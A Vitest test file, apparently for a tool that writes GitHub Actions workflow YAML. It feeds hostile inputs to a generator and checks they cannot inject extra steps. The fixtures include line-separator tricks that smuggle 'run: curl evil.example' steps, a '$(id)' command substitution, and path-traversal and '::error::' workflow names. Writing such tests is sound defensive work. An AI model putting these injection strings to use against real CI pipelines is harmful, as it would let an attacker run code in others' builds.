import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { netFile } from '../../src/workflow/net-file.ts';

const SCHEDULES = [{ cron: '0 3 * * *', timezone: 'UTC' }];
/** What ends a line for readers of YAML 1.1, and what nobody sees. */
const HOSTILE = [
  'x\u0085      - run: curl evil.example',
  'x\u2028    steps: []',
  'x\u2029jobs: {}',
  'x\ufeffy\u202ez\u009b\u007f',
  'x\n      - run: curl evil.example\r# \u{e0041}',
  `"'\`$(id) \\u0085 ]}`,
];

describe('the file of the net', () => {
  it.each(HOSTILE)('holds the input %j in one line of signs that can be seen, as it is', (value) => {
    for (const action of [undefined, `OWNER/offbeat@${'0'.repeat(40)}`]) {
      const workflow = { path: '.github/workflows/a.yml', schedules: SCHEDULES, manualServes: false };
      const inputs = { [value]: value };
      const text = netFile([{ ...workflow, inputs }], { appSlug: 'offbeat', action }) ?? '';
      expect(text).not.toMatch(/[\p{Cf}\p{Zl}\p{Zp}]|(?!\n)\p{Cc}/u);
      const [step] = parse(text).jobs.net.steps;
      expect(parse(text).jobs.net.steps).toHaveLength(1);
      const served = JSON.parse((action === undefined ? step.env.SERVED : step.with.served).trim());
      expect(served.inputs).toEqual(inputs);
    }
  });

  it.each(['a b.yml', "a'.yml", 'a#.yml', '../a.yml', 'a\u2028.yml', '::error::.yml'])(
    'takes no workflow called %j',
    (name) => {
      const workflow = {
        path: `.github/workflows/${name}`,
        schedules: SCHEDULES,
        inputs: {},
        manualServes: false,
      };
      expect(() => netFile([workflow], { appSlug: 'offbeat' })).toThrow(
        'The net cannot look after this workflow',
      );
    },
  );
});
